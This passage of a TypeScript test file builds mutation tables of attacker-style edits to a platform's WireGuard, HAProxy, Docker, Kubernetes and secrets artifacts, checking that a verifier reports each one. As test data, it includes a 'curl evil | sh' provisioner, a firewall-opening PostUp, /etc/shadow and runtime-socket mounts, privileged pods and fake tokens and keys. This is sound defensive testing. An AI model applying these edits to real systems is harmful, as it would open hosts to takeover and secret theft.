import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { copyOut, editJson, editText, locatedProblems, problemLines, pulumiContainer, verifyCli } from "./support.js";
import { generatedSiteFile, planSite, siteFiles } from "./planned-sites.js";
import { esc, plannedReport } from "./site-facts.js";
import { artifactTargets, type ArtifactTargets, type ContainerTarget } from "./artifact-targets.js";

/*
 * An attacker's edits of the rendered artifacts, class by class (issue 12: 5 WireGuard, 6 HAProxy,
 * 7 Docker, 10 secrets, 13 malformed artifacts), aimed by one planned site's own artifacts
 * (artifact-targets.ts): its peers, backends, containers and files, never an example's names. Each
 * must end in exit 1 with a finding or a mandatory guardrail that names the artifact and a line,
 * and that line must hold the edit (`marker`). A mutation whose target the site does not have is
 * not in its table; one whose edit is the same text on every site (no name or address of the site
 * in it) is a `platform` mutation, run on the first site only.
 */

export type MutationClass = "5 wireguard" | "6 haproxy" | "7 docker" | "10 secrets" | "13 malformed";
export const MUTATION_CLASSES: readonly MutationClass[] = ["5 wireguard", "6 haproxy", "7 docker", "10 secrets", "13 malformed"];

export interface DaemonMutation {
  readonly cls: MutationClass;
  readonly name: string;
  readonly mutate: (dir: string) => void;
  readonly artifact: string;
  /** Over "kind-or-rule subject message". */
  readonly expected: RegExp;
  /** Text the reported line holds in the mutated artifact ("" for any line). */
  readonly marker: string;
  /** The same edit on every site: run on the first site only. */
  readonly platform?: boolean;
}

/** Made-up keys in WireGuard's format: never a real one. */
const KEY_A = "aGVsbG8gdGhpcyBpcyBub3QgYSByZWFsIGtleSEhISE=";
const KEY_B = "c2Vjb25kIGZha2Uga2V5IGZvciBhIHRlc3QgcGVlciE=";
/** An address no example uses (TEST-NET-1, outside every site's uplinks and pools). */
const OUTSIDE = "192.0.2.99";

type Json = any; // eslint-disable-line @typescript-eslint/no-explicit-any
const tfOf = (j: Json, c: ContainerTarget): Json => j.resource.docker_container[c.key];
const addLabel = (c: Json, label: string, value: string) => (c.labels ??= []).push({ label, value });
const subject = (c: ContainerTarget) => esc(`${c.host}/${c.service}`);
const MTU = /^(MTU = .*)$/m;

/** The mutation table of one planned site, and what it leaves out for want of a target (said in the test's name). */
export function daemonMutations(t: ArtifactTargets): { table: DaemonMutation[]; skipped: { cls: MutationClass; what: string }[] } {
  const out: DaemonMutation[] = [];
  const skipped: { cls: MutationClass; what: string }[] = [];
  const skip = (cls: MutationClass, what: string) => skipped.push({ cls, what });
  const add = (cls: MutationClass, name: string, artifact: string, mutate: (dir: string) => void, expected: RegExp, marker: string, platform = false) => out.push({ cls, name, artifact, mutate, expected, marker, platform });
  const first = t.sites[0]!;
  const last = t.sites.at(-1)!;
  const edgePeer = t.edgePeers.at(-1)!;

  // ---- 5. WireGuard as wg reads it ----
  const W = "5 wireguard";
  add(W, `an extra [Peer] on the edge for a third party (${OUTSIDE})`, t.edgeWg, (d) => editText(d, t.edgeWg, (x) => `${x}\n[Peer]\nPublicKey = ${KEY_A}\nAllowedIPs = ${OUTSIDE}/32\n`), /wireguard-peers .*extra peer/, "[Peer]");
  add(W, `a later [Peer] claiming ${last.id}'s tunnel address ${last.tunnel4} (the last peer wins)`, t.edgeWg, (d) => editText(d, t.edgeWg, (x) => `${x}\n[Peer]\nPublicKey = ${KEY_B}\nAllowedIPs = ${last.tunnel4}/32\n`), /wireguard-peers .*claim the same AllowedIPs prefix/, "[Peer]");
  add(W, `PostUp opening ${last.id}'s firewall`, last.wg, (d) => editText(d, last.wg, (x) => x.replace("[Peer]", "PostUp = nft add rule inet filter input accept\n\n[Peer]")), /bad-artifact .*PostUp runs a command/, "PostUp = nft");
  add(W, `PreUp on the edge adding a route to ${first.id}'s pool ${first.pool}`, t.edgeWg, (d) => editText(d, t.edgeWg, (x) => x.replace(MTU, `$1\npreup = ip route add ${first.pool} dev %i`)), /bad-artifact .*preup runs a command/i, "preup = ip route");
  add(W, `a key wg does not know in ${first.id}'s [Interface]`, first.wg, (d) => editText(d, first.wg, (x) => x.replace(MTU, "$1\nAllowedIPs = 0.0.0.0/0")), /bad-artifact .*AllowedIPs is not a key of \[Interface\]/, "AllowedIPs = 0.0.0.0/0");
  add(W, `Table = off on ${last.id} (routes no longer wg-quick's)`, last.wg, (d) => editText(d, last.wg, (x) => x.replace(MTU, "$1\nTable = off")), /bad-artifact .*Table = off/, "Table = off");
  add(W, `the edge's last peer widened to ${last.id}'s pool ${last.pool}, in lower-case keys`, t.edgeWg, (d) => editText(d, t.edgeWg, (x) => x.replace(`AllowedIPs = ${edgePeer.allowedIps}`, `allowedips = ${edgePeer.allowedIps}\nallowedips = ${last.pool}`)), new RegExp(`wireguard-allowed-ips .*${esc(last.pool)}`), `allowedips = ${edgePeer.allowedIps}`);
  add(W, "a second WireGuard interface on the edge", "hosts/edge/wireguard/wg-x.conf", (d) => writeFileSync(join(d, "hosts/edge/wireguard/wg-x.conf"), `[Interface]\nAddress = 10.99.0.1/24\nListenPort = 51821\n\n[Peer]\nPublicKey = ${KEY_A}\nAllowedIPs = 0.0.0.0/0\n`), /bad-artifact .*second WireGuard interface/, "[Interface]", true);

  // ---- 6. HAProxy as haproxy parses it ----
  const H = "6 haproxy";
  const be0 = t.edgeBackends[0]!;
  const beN = t.edgeBackends.at(-1)!;
  add(H, `an indented listen section on the edge relaying to ${first.id}'s SSH`, t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => `${x}\n    listen relay\n        mode tcp\n        bind ${t.edgePublic4}:2222\n        server s ${first.tunnel4}:22\n`), new RegExp(`unexpected-route edge-proxy => ${esc(first.id)} : tcp/22`), `server s ${first.tunnel4}:22`);
  add(H, "the edge's runtime API (stats socket, level admin) on every address, port 9999", t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace(/^(\s+)stats socket \S+/m, "$1stats socket ipv4@0.0.0.0:9999")), /bad-artifact .*stats socket ipv4@0\.0\.0\.0:9999 listens on a network address/, "stats socket ipv4@", true);
  add(H, "the edge's runtime API on a bare port (stats socket :9999)", t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace(/^(\s+)stats socket \S+/m, "$1stats socket :9999")), /bad-artifact .*stats socket :9999 listens on a network address/, "stats socket :9999", true);
  add(H, `an unknown SNI falls back to ${be0.name} (default_backend)`, t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace("default_backend be_reject", `default_backend ${be0.name}`)), new RegExp(`unexpected-route .*unknown name .*lands on backend ${esc(be0.name)}`), `default_backend ${be0.name}`);
  add(H, `default_backend ${beN.name} moved into defaults`, t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace("    default_backend be_reject\n", "").replace("defaults\n", `defaults\n    default_backend ${beN.name}\n`)), new RegExp(`unexpected-route .*unknown name .*${esc(beN.name)}`), `default_backend ${beN.name}`);
  add(H, `a server of ${be0.name} pointing outside the platform`, t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace(new RegExp(`(backend ${esc(be0.name)}\\n\\s+mode tcp\\n\\s+server ingress) ${esc(be0.server)}:443`), `$1 ${OUTSIDE}:443`)), new RegExp(`unexpected-route .*${esc(OUTSIDE)}:443 resolves to no known peer`), `${OUTSIDE}:443`);
  add(H, "lua loaded in the edge's global", t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace("    maxconn 4096", "    maxconn 4096\n    lua-load /etc/palisade/haproxy/route.lua")), /bad-artifact .*lua-load is not modelled/, "lua-load", true);
  if (t.ingress) {
    const ing = t.ingress;
    const r0 = ing.routes[0]!;
    const rN = ing.routes.at(-1)!;
    const hostAcl = r0.cond.split(" ")[0]!;
    add(H, `use_backend ${r0.backend} ... unless ${hostAcl}: any other Host reaches it`, ing.path, (d) => editText(d, ing.path, (x) => x.replace(r0.line, `use_backend ${r0.backend} unless ${hostAcl}`)), new RegExp(`unexpected-route .*unknown name .*${esc(r0.backend)}`), `unless ${hostAcl}`);
    add(H, `a || in ${rN.backend}'s condition: any Host with any path reaches it`, ing.path, (d) => editText(d, ing.path, (x) => x.replace(rN.line, `${rN.line} || { path_beg / }`)), new RegExp(`unexpected-route .*unknown name .*${esc(rN.backend)}`), "|| { path_beg / }");
    add(H, `the ingress's server ${ing.server.name} pointing outside the platform`, ing.path, (d) => editText(d, ing.path, (x) => x.replace(ing.server.line, `server ${ing.server.name} ${OUTSIDE}:${ing.server.port}`)), new RegExp(`unexpected-route .*${esc(OUTSIDE)}:${ing.server.port} resolves to no known peer`), `${OUTSIDE}:${ing.server.port}`);
    add(H, "http-request set-path on the ingress (not modelled)", ing.path, (d) => editText(d, ing.path, (x) => x.replace("    http-request set-header X-Forwarded-Proto https", "    http-request set-header X-Forwarded-Proto https\n    http-request set-path /api%[path]")), /bad-artifact .*http-request set-path is not modelled/, "set-path", true);
    add(H, "the Host header rewritten on the ingress before routing", ing.path, (d) => editText(d, ing.path, (x) => x.replace("    http-request set-header X-Forwarded-Proto https", "    http-request set-header X-Forwarded-Proto https\n    http-request set-header Host unknown.invalid")), /bad-artifact .*Host rewrites/, "set-header Host", true);
  } else skip(H, "no ingress HAProxy config: its five class-6 mutations");

  // ---- 7. Docker as the engine applies it ----
  const D = "7 docker";
  // Containers that run as a user of their own (no root exception): each edit below is theirs alone.
  const plain = t.containers.filter((c) => !c.rootReason);
  const pick = (i: number) => plain[i % plain.length]!;
  const [c0, c1, c2] = [pick(0), pick(1), pick(2)];
  // Who is at the other end: the peers' public keys are the site's (publicKeys, sites[].publicKey).
  const peerKeyOf = (text: string, tunnel4: string) => new RegExp(`^PublicKey = .*$(?=\\nAllowedIPs = ${esc(tunnel4)}/32)`, "m");
  add(W, `the edge's peer for ${last.id} given another key (whoever holds it becomes ${last.id} on the tunnel)`, t.edgeWg, (d) => editText(d, t.edgeWg, (x) => x.replace(peerKeyOf(x, last.tunnel4), `PublicKey = ${KEY_A}`)), new RegExp(`tunnel-identity .*the edge's peer for ${esc(last.id)} .*has PublicKey ${esc(KEY_A)}`), `PublicKey = ${KEY_A}`);
  add(W, `${first.id}'s edge peer given another key`, first.wg, (d) => editText(d, first.wg, (x) => x.replace(/^PublicKey = .*$/m, `PublicKey = ${KEY_B}`)), new RegExp(`tunnel-identity .*${esc(first.id)}'s tunnel peer at line \\d+ .*has PublicKey ${esc(KEY_B)}, not the edge's`), `PublicKey = ${KEY_B}`);
  add(W, `a second PublicKey in ${first.id}'s edge peer (the last one is wg's)`, first.wg, (d) => editText(d, first.wg, (x) => x.replace(/^(PublicKey = .*)$/m, `$1\nPublicKey = ${KEY_A}`)), new RegExp(`tunnel-identity .*has PublicKey ${esc(KEY_A)}`), `PublicKey = ${KEY_A}`);
  const edge = t.containers.filter((c) => c.stack === "edge");
  const hostNet = t.containers.find((c) => c.networkMode === "host" && !c.rootReason)!;
  const mounted = plain.find((c) => c.hasMounts)!;
  add(D, `SYS_ADMIN added to ${c0.name} without a reason`, c0.tf, (d) => editJson(d, c0.tf, (j) => tfOf(j, c0).capabilities.add.push("SYS_ADMIN")), new RegExp(`capability-reason ${subject(c0)} .*dangerous capability SYS_ADMIN`), '"capabilities"');
  add(D, `cap_sys_ptrace for ${c1.name}, in lower case with the prefix`, c1.tf, (d) => editJson(d, c1.tf, (j) => tfOf(j, c1).capabilities.add.push("cap_sys_ptrace")), new RegExp(`capability-reason ${subject(c1)} .*SYS_PTRACE`), '"capabilities"');
  add(D, `ALL added back to ${c2.name}, even with a reason label`, c2.tf, (d) => editJson(d, c2.tf, (j) => { const c = tfOf(j, c2); c.capabilities.add.push("ALL"); addLabel(c, "palisade.cap.ALL", "convenience"); }), new RegExp(`capability-reason ${subject(c2)} .*adds ALL`), '"capabilities"');
  add(D, `seccomp unconfined for ${c0.name}`, c0.tf, (d) => editJson(d, c0.tf, (j) => tfOf(j, c0).security_opts.push("seccomp=unconfined")), new RegExp(`unconfined ${subject(c0)} .*seccomp=unconfined`), '"security_opts"');
  add(D, `apparmor:unconfined for ${c1.name} in the Pulumi capture`, c1.pulumi, (d) => editJson(d, c1.pulumi, (j) => pulumiContainer(j, c1.name).securityOpts.push("apparmor:unconfined")), new RegExp(`unconfined ${subject(c1)} .*apparmor:unconfined`), '"securityOpts"');
  add(D, `no-new-privileges overridden later in ${c2.name}'s list`, c2.tf, (d) => editJson(d, c2.tf, (j) => tfOf(j, c2).security_opts.push("no-new-privileges=false")), new RegExp(`no-new-privileges ${subject(c2)} .*last entry wins`), '"security_opts"');
  add(D, `${c0.name} as user 00 (uid 0)`, c0.tf, (d) => editJson(d, c0.tf, (j) => { tfOf(j, c0).user = "00"; }), new RegExp(`non-root-user ${subject(c0)} .*uid 0`), '"user": "00"');
  add(D, `${c1.name} as root:root`, c1.tf, (d) => editJson(d, c1.tf, (j) => { tfOf(j, c1).user = "root:root"; }), new RegExp(`non-root-user ${subject(c1)}`), '"user": "root:root"');
  add(D, `${c2.name} with no user at all (the image's default)`, c2.tf, (d) => editJson(d, c2.tf, (j) => { delete tfOf(j, c2).user; }), new RegExp(`non-root-user ${subject(c2)} .*sets no user`), `"${c2.key}"`);
  add(D, `/etc/shadow mounted into ${c0.name} (under /etc, spelt with ..)`, c0.tf, (d) => editJson(d, c0.tf, (j) => { tfOf(j, c0).mounts = [{ read_only: true, source: "/etc/../etc//shadow", target: "/x", type: "bind" }]; }), new RegExp(`sensitive-mount ${subject(c0)} .*under /etc`), '"mounts"');
  add(D, `containerd's socket mounted into ${c1.name}`, c1.tf, (d) => editJson(d, c1.tf, (j) => (tfOf(j, c1).mounts ??= []).push({ read_only: false, source: "/srv/containerd.sock", target: "/run/c.sock", type: "bind" })), new RegExp(`sensitive-mount ${subject(c1)} .*runtime socket`), '"mounts"');
  const e0 = edge[0]!;
  const eN = edge.at(-1)!;
  add(D, `the whole secrets directory mounted into ${e0.name}`, e0.tf, (d) => editJson(d, e0.tf, (j) => (tfOf(j, e0).mounts ??= []).push({ read_only: true, source: "/etc/palisade/secrets/", target: "/s", type: "bind" })), new RegExp(`sensitive-mount ${subject(e0)} .*secrets directory`), '"mounts"');
  add(D, `the edge tunnel's private key (${t.edgeKeyFile}) mounted into ${eN.name}`, eN.tf, (d) => editJson(d, eN.tf, (j) => (tfOf(j, eN).mounts ??= []).push({ read_only: true, source: t.edgeKeyFile, target: "/k", type: "bind" })), new RegExp(`sensitive-mount ${subject(eN)} .*tunnel's private key`), '"mounts"');
  add(D, `a host device for ${c1.name}`, c1.tf, (d) => editJson(d, c1.tf, (j) => { tfOf(j, c1).devices = [{ host_path: "/dev/sda", container_path: "/dev/sda" }]; }), new RegExp(`devices ${subject(c1)} .*/dev/sda`), '"devices"');
  add(D, `host PID namespace for ${hostNet.name}, beside its host-network exception`, hostNet.tf, (d) => editJson(d, hostNet.tf, (j) => { tfOf(j, hostNet).pid_mode = "host"; }), new RegExp(`host-namespace ${subject(hostNet)} .*pid namespace .*no exception covers it`), '"pid_mode"');
  add(D, `host user namespace for ${c0.name}`, c0.tf, (d) => editJson(d, c0.tf, (j) => { tfOf(j, c0).userns_mode = "host"; }), new RegExp(`host-namespace ${subject(c0)} .*userns`), '"userns_mode"');
  const other = t.containers.find((c) => c.stack === c1.stack && c !== c1)!;
  add(D, `${c1.name} in ${other.name}'s network namespace (network_mode container:)`, c1.tf, (d) => editJson(d, c1.tf, (j) => { tfOf(j, c1).network_mode = `container:${other.name}`; }), new RegExp(`host-namespace ${subject(c1)} .*container:${esc(other.name)}`), '"network_mode"');
  add(D, `${c1.name} in ${other.name}'s PID namespace (pid_mode container:)`, c1.tf, (d) => editJson(d, c1.tf, (j) => { tfOf(j, c1).pid_mode = `container:${other.name}`; }), new RegExp(`host-namespace ${subject(c1)} .*joins the pid namespace of container ${esc(other.name)}`), '"pid_mode"');
  const other0 = t.containers.find((c) => c.stack === c0.stack && c !== c0)!;
  add(D, `${c0.name} in ${other0.name}'s IPC namespace (ipc_mode container:, in the Pulumi capture)`, c0.pulumi, (d) => editJson(d, c0.pulumi, (j) => { pulumiContainer(j, c0.name).ipcMode = `container:${other0.name}`; }), new RegExp(`host-namespace ${subject(c0)} .*joins the ipc namespace of container ${esc(other0.name)}`), '"ipcMode"');
  add(D, `a pid_mode Docker's reader does not know for ${c2.name}`, c2.tf, (d) => editJson(d, c2.tf, (j) => { tfOf(j, c2).pid_mode = "sibling"; }), new RegExp(`host-namespace ${subject(c2)} .*pid_mode = "sibling", which the verifier does not model`), '"pid_mode"');
  add(D, `every volume of ${other.name} mounted into ${c1.name} (volumes from_container)`, c1.tf, (d) => editJson(d, c1.tf, (j) => { tfOf(j, c1).volumes = [{ from_container: other.name }]; }), new RegExp(`bad-artifact .*volumes entry sets from_container \\(every volume of container ${esc(other.name)}`), '"from_container"');
  add(D, `every volume of ${other0.name} mounted into ${c0.name}, in the Pulumi capture`, c0.pulumi, (d) => editJson(d, c0.pulumi, (j) => { pulumiContainer(j, c0.name).volumes = [{ fromContainer: other0.name }]; }), /bad-artifact .*volumes entry sets from_container/, '"fromContainer"');
  add(D, `a bind mount into ${c2.name} with its propagation set (a key of mounts the model does not read)`, c2.tf, (d) => editJson(d, c2.tf, (j) => { tfOf(j, c2).mounts = [{ read_only: true, source: "/srv/data", target: "/data", type: "bind", bind_options: { propagation: "rshared" } }]; }), /bad-artifact .*mounts entry sets bind_options/, '"bind_options"');
  add(D, `a local-exec provisioner on ${c0.name}`, c0.tf, (d) => editJson(d, c0.tf, (j) => { tfOf(j, c0).provisioner = [{ "local-exec": { command: "curl evil | sh" } }]; }), /bad-artifact .*provisioner block/, '"provisioner"');
  add(D, "a null_resource in the secrets stack", "cdktf/stacks/secrets/cdk.tf.json", (d) => editJson(d, "cdktf/stacks/secrets/cdk.tf.json", (j) => { j.resource.null_resource = { x: { provisioner: [{ "local-exec": { command: "id" } }] } }; }), /bad-artifact .*null_resource is not modelled/, '"x"', true);
  const shadowKey = `${c2.key}_shadow`;
  add(D, `a container the intent does not know (a copy of ${c2.name} as another service)`, c2.tf, (d) => editJson(d, c2.tf, (j) => { const c = JSON.parse(JSON.stringify(tfOf(j, c2))); c.name = `${c2.name}-shadow`; c.labels = c.labels.map((l: Json) => (l.label === "palisade.service" ? { ...l, value: `${c2.service}-shadow` } : l)); c.networks_advanced = []; j.resource.docker_container[shadowKey] = c; }), new RegExp(`unknown-peer ${subject(c2)}-shadow`), `"${shadowKey}"`);
  // Where Docker places networks and fixed addresses: what it refuses, or a network the stack does not declare.
  const attached = t.containers.find((c) => c.hasNetworks);
  if (attached) {
    add(D, `${attached.name} also on Docker's default bridge (a network its stack does not declare)`, attached.tf, (d) => editJson(d, attached.tf, (j) => tfOf(j, attached).networks_advanced.push({ aliases: [], ipv4_address: "172.17.0.99", name: "bridge" })), /bad-artifact .*attaches network bridge, which this stack does not declare/, '"ipv4_address": "172.17.0.99"');
    const namesake = t.containers.find((c) => c.stack === attached.stack && c !== attached)!;
    add(D, `${attached.name} answering for ${namesake.service} on its first network (a network alias)`, attached.tf, (d) => editJson(d, attached.tf, (j) => { tfOf(j, attached).networks_advanced.find((n: Json) => n.ipv4_address).aliases.push(namesake.service); }), new RegExp(`network-identity ${subject(attached)} .*answers for ${esc(namesake.service)} on network`), '"networks_advanced"');
    add(D, `${attached.name}'s first address moved outside its network's subnet (${OUTSIDE})`, attached.tf, (d) => editJson(d, attached.tf, (j) => { tfOf(j, attached).networks_advanced.find((n: Json) => n.ipv4_address).ipv4_address = OUTSIDE; }), /bad-artifact .*address 192\.0\.2\.99 outside .*subnet .*Docker refuses it/, `"ipv4_address": "${OUTSIDE}"`);
    add(D, `a second network of ${attached.stack} given the first one's subnet`, attached.tf, (d) => editJson(d, attached.tf, (j) => { const nets = Object.values(j.resource.docker_network) as Json[]; if (nets.length > 1) nets[1].ipam_config[0].subnet = nets[0].ipam_config[0].subnet; }), /bad-artifact .*subnet .* overlaps network .*Docker refuses the second pool/, '"subnet"');
  } else skip(D, "no container with an address on a Docker network: its three addressing mutations");
  add(D, `sysctls on ${c0.name} (a field the verifier does not model)`, c0.tf, (d) => editJson(d, c0.tf, (j) => { tfOf(j, c0).sysctls = { "net.ipv4.ip_forward": "1" }; }), /bad-artifact .*sets sysctls/, '"sysctls"');
  if (t.kubeStack) {
    // The cluster's pods, as the kubelet applies them: the same edit in both engines' stacks (one engine alone is engine drift).
    const k = t.kubeStack;
    const dep = k.deployment;
    const inBoth = (d: string, change: (pod: Json) => void) => {
      editJson(d, k.tf, (j) => change(j.resource.kubernetes_manifest[dep.key].manifest.spec.template.spec));
      editJson(d, k.pulumi, (j) => change(j.resources.find((r: Json) => r.inputs?.kind === "Deployment" && r.inputs.metadata?.namespace === dep.namespace && r.inputs.metadata?.name === dep.name).inputs.spec.template.spec));
    };
    const pod = esc(`${k.host}/${dep.service}`);
    add(D, `the pod of ${dep.namespace}/${dep.name} privileged, in both engines`, k.tf, (d) => inBoth(d, (p) => { p.containers[0].securityContext = { ...p.containers[0].securityContext, privileged: true }; }), new RegExp(`privileged ${pod} .*is privileged`), '"manifest": {');
    add(D, `the pod of ${dep.namespace}/${dep.name} in the node's PID namespace, in both engines`, k.tf, (d) => inBoth(d, (p) => { p.hostPID = true; }), new RegExp(`host-namespace ${pod} .*hostPID`), '"manifest": {');
    add(D, `the node's / as a hostPath volume of ${dep.namespace}/${dep.name}, in both engines`, k.tf, (d) => inBoth(d, (p) => { p.volumes = [...(p.volumes ?? []), { name: "root", hostPath: { path: "/" } }]; }), new RegExp(`sensitive-mount ${pod} .*root filesystem`), '"manifest": {');
    add(D, `SYS_ADMIN for the pod of ${dep.namespace}/${dep.name}, in both engines`, k.tf, (d) => inBoth(d, (p) => { p.containers[0].securityContext.capabilities.add = ["SYS_ADMIN"]; }), new RegExp(`capability-reason ${pod} .*SYS_ADMIN`), '"manifest": {');
  } else skip(D, "no Kubernetes stack: its four pod-hardening mutations");
  add(D, `a command:local:Command in ${c0.pulumi}`, c0.pulumi, (d) => editJson(d, c0.pulumi, (j) => j.resources.push({ type: "command:local:Command", name: "x", inputs: { create: "id" } })), /bad-artifact .*command:local:Command is not modelled/, '"type": "command:local:Command"');
  if (t.volume) {
    const v = t.volume;
    add(D, `a volume (${v.key}) whose driver binds /etc`, v.tf, (d) => editJson(d, v.tf, (j) => { j.resource.docker_volume[v.key].driver_opts = { type: "none", o: "bind", device: "/etc" }; }), /bad-artifact .*driver_opts/, '"driver_opts"');
  } else skip(D, "no docker_volume: the volume driver_opts mutation");
  add(D, `drift on a field the model does not read (dns of ${c1.name}, Pulumi only)`, c1.pulumi, (d) => editJson(d, c1.pulumi, (j) => { pulumiContainer(j, c1.name).dns = ["198.51.100.53"]; }), new RegExp(`engine-drift ${esc(c1.stack)} container ${esc(c1.name)} .*other\\.dns`), '"dns"');
  // The finding names the Pulumi capture: the side that differs from the Terraform JSON it is compared with.
  add(D, `drift inside ${mounted.name}'s first mount (bind propagation, Terraform only)`, mounted.pulumi, (d) => editJson(d, mounted.tf, (j) => { tfOf(j, mounted).mounts[0].bind_options = { propagation: "rshared" }; }), new RegExp(`engine-drift ${esc(mounted.stack)} container ${esc(mounted.name)} .*mounts differs`), '"mounts"');

  // ---- 10. Secrets anywhere ----
  const S = "10 secrets";
  add(S, `a password in a database URL in ${c0.name}'s env`, c0.tf, (d) => editJson(d, c0.tf, (j) => (tfOf(j, c0).env ??= []).push("DATABASE_URL=postgres://app:Tr0ub4dor3x@db:5432/app")), /secret-material .*password in a URL/, "DATABASE_URL");
  add(S, "a private key inline in the edge's PostUp", t.edgeWg, (d) => editText(d, t.edgeWg, (x) => x.replace(/PostUp = .*/, `PostUp = wg set %i private-key <(echo ${KEY_A})`)), /secret-material .*WireGuard key/, "PostUp = wg set %i private-key <(echo");
  add(S, `a PresharedKey in ${last.id}'s [Peer]`, last.wg, (d) => editText(d, last.wg, (x) => x.replace(/^(PersistentKeepalive = .*)$/m, `$1\nPresharedKey = ${KEY_B}`)), /secret-material .*WireGuard key/, "PresharedKey");
  add(S, `a PEM key embedded in a JSON string (a label of ${c1.name})`, c1.tf, (d) => editJson(d, c1.tf, (j) => addLabel(tfOf(j, c1), "note", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----")), /secret-material .*PEM private key/, "BEGIN OPENSSH PRIVATE KEY");
  add(S, `a Vault token in ${c2.name}'s env`, c2.tf, (d) => editJson(d, c2.tf, (j) => (tfOf(j, c2).env ??= []).push(`BAO_TOKEN_FILE_CONTENT=hvs.${"CAESIJ1k2l3m4n5".repeat(2)}`)), /secret-material .*(token|password)/, "hvs.");
  if (t.acme) {
    const a = t.acme;
    add(S, `a GitHub token in ${a.renew}`, a.renew, (d) => editText(d, a.renew, (x) => `${x}# ghp_${"A1b2C3d4E5".repeat(4)}\n`), /secret-material .*token/, "ghp_");
    add(S, `a bearer token in ${a.deployHook}`, a.deployHook, (d) => editText(d, a.deployHook, (x) => `${x}curl -H "Authorization: Bearer abcdEFGH1234ijklMNOP5678" https://example.com\n`), /secret-material .*HTTP header/, "Authorization: Bearer");
  } else skip(S, "no ACME scripts: their two token mutations");
  if (t.openbaoConfig) {
    const p = t.openbaoConfig;
    add(S, `a JWT in ${p}`, p, (d) => editText(d, p, (x) => `${x}\n# eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlc2lnbmF0dXJl\n`), /secret-material .*JSON web token/, "eyJhbGci");
  } else skip(S, "no OpenBao config.hcl: its JWT mutation");

  // ---- 13. Malformed artifacts ----
  const M = "13 malformed";
  const networked = t.containers.find((c) => c.hasNetworks);
  if (networked) {
    add(M, `${networked.name}'s first network without ipv4_address`, networked.tf, (d) => editJson(d, networked.tf, (j) => { delete tfOf(j, networked).networks_advanced[0].ipv4_address; }), /bad-artifact .*without an ipv4_address/, '"name": "${docker_network');
  } else skip(M, "no container with an ipv4_address on a Docker network: the missing ipv4_address mutation");
  add(M, `${c0.tf} with an unbalanced brace`, c0.tf, (d) => editText(d, c0.tf, (x) => x.replace(/("memory": \d+),/, "$1 },")), /bad-artifact .*cannot read.*line \d+/, "");
  add(M, `${c0.tf} with a missing comma`, c0.tf, (d) => editText(d, c0.tf, (x) => x.replace(/("memory": \d+),/, "$1")), /bad-artifact .*cannot read.*expected ',' or '\}'/, "");
  // JSON.parse keeps the last of a repeated key, an engine's parser need not: refused, as the file's finding (not an internal error).
  add(M, `${c0.tf} with a repeated key (memory twice)`, c0.tf, (d) => editText(d, c0.tf, (x) => x.replace(/("memory": \d+)/, "$1, $1")), /bad-artifact .*cannot read: duplicate key "memory".* at line \d+/, '"memory"');
  add(M, `${c0.pulumi} with a repeated key (memory twice)`, c0.pulumi, (d) => editText(d, c0.pulumi, (x) => x.replace(/("memory": \d+)/, "$1, $1")), /bad-artifact .*cannot read: duplicate key "memory".* at line \d+/, '"memory"');
  add(M, `${c0.pulumi} with a trailing comma`, c0.pulumi, (d) => editText(d, c0.pulumi, (x) => x.replace(/"restart": "unless-stopped"/, '"restart": "unless-stopped",')), /bad-artifact .*cannot read/, '"restart": "unless-stopped",');
  if (t.internalNetwork) {
    const n = t.internalNetwork;
    add(M, `a wrong type in ${n.tf} (internal: "yes")`, n.tf, (d) => editJson(d, n.tf, (j) => { (Object.values(j.resource.docker_network) as { internal?: unknown }[]).find((x) => x.internal === true)!.internal = "yes"; }), /bad-artifact .*internal is "yes" \(string\); expected a boolean/, '"internal": "yes"');
  } else skip(M, "no internal docker_network: the internal: \"yes\" mutation");
  add(M, `a wrong type in ${c0.pulumi} (memory: "lots")`, c0.pulumi, (d) => editJson(d, c0.pulumi, (j) => { pulumiContainer(j, c0.name).memory = "lots"; }), /bad-artifact .*memory is "lots"/, '"memory": "lots"');
  add(M, "an unbalanced brace in the edge proxy's first SNI condition", t.edgeProxy, (d) => editText(d, t.edgeProxy, (x) => x.replace(t.edgeSniLine, t.edgeSniLine.replace(/\s*\}$/, ""))), /bad-artifact .*unbalanced/, t.edgeSniLine.split("{")[0]!);
  add(M, `a line of ${first.wg} that is not Key = value`, first.wg, (d) => editText(d, first.wg, (x) => x.replace(MTU, "$1\nListenPort 51820")), /bad-artifact .*not a Key = value line/, "ListenPort 51820");
  if (t.kubeStack) {
    const k = t.kubeStack;
    add(M, `a NetworkPolicy of ${k.tf} without its spec (${k.policy})`, k.tf, (d) => editJson(d, k.tf, (j) => { delete j.resource.kubernetes_manifest[k.policy].manifest.spec; }), new RegExp(`bad-artifact .*cannot read resource\\.kubernetes_manifest\\.${esc(k.policy)}.*spec: given \\(missing\\)`), '"manifest": {');
    add(M, `${k.tf} cut in the middle of a string`, k.tf, (d) => editText(d, k.tf, (x) => x.slice(0, x.indexOf('"namespace": "') + 16)), /bad-artifact .*cannot read .*unterminated string at line \d+/, '"namespace": "');
  } else skip(M, "no Kubernetes stack: its two malformed-manifest mutations");
  if (last.failover) {
    const f = last.failover;
    add(M, `${f} that is not JSON`, f, (d) => editText(d, f, (x) => x.replace(/\{/, "{{")), new RegExp(`bad-artifact .*${esc(f)}`), "{{");
    add(M, `${f} with a repeated key (holdDownS twice)`, f, (d) => editText(d, f, (x) => x.replace(/("holdDownS": \d+)/, "$1, $1")), new RegExp(`bad-artifact .*${esc(f)}.*duplicate key "holdDownS".* at line \\d+`), '"holdDownS"');
  } else skip(M, "no failover.json: its not-JSON mutation");
  if (t.tenantsJson) {
    const f = t.tenantsJson;
    add(M, `${f} that is not JSON`, f, (d) => editText(d, f, (x) => x.replace(/\[/, "[[,")), new RegExp(`bad-artifact .*${esc(f)}`), "[[,");
